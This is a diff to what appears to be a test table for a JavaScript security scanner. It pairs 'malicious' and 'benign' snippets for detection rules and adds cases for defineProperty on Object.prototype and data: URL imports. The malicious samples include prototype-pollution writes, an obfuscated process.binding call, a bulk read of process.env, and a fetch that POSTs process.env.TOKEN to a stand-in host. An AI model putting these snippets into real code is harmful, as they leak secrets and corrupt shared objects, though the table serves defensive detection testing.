@@ -39,6 +39,8 @@ const PAIRS: readonly Pair[] = [
   { what: '__proto__ writes', rule: 'proto.pollution', malicious: 'obj.__proto__.admin = true', benign: 'obj.proto.admin = true' },
   { what: 'constructor.prototype writes', rule: 'proto.pollution', malicious: 'obj.constructor.prototype.admin = true', benign: 'const n = obj.constructor.prototype; void n;' },
   { what: 'Object.prototype assignment', rule: 'proto.pollution', malicious: 'Object.prototype.polluted = 1', benign: 'const own = Object.prototype.hasOwnProperty.call(o, "k"); void own;' },
+  { what: 'Object.defineProperty on a builtin prototype', rule: 'proto.pollution', malicious: "Object.defineProperty(Object.prototype, 'x', { value: 1 })", benign: "Object.defineProperty(exportsObj, 'x', { value: 1 })" },
+  { what: 'data: URL imports', rule: 'code.eval', malicious: "await import('data:text/javascript,export default 1')", benign: "await import('./data.js')" },
   { what: 'process.binding', rule: 'native.process-binding', malicious: "process['bind' + 'ing']('fs')", benign: "process['on']('exit', () => {})" },
   { what: 'bulk environment read', rule: 'env.bulk-read', malicious: 'JSON.stringify(process.env)', benign: 'JSON.stringify(process.env.HOME)' },
   { what: 'environment sent over the network', rule: 'net.exfiltration', malicious: "fetch('https://x.example', { method: 'POST', body: JSON.stringify({ k: process.env.TOKEN }) })", benign: "fetch('https://x.example', { headers: { authorization: `Bearer ${process.env.TOKEN}` }, body: '{}' })" },
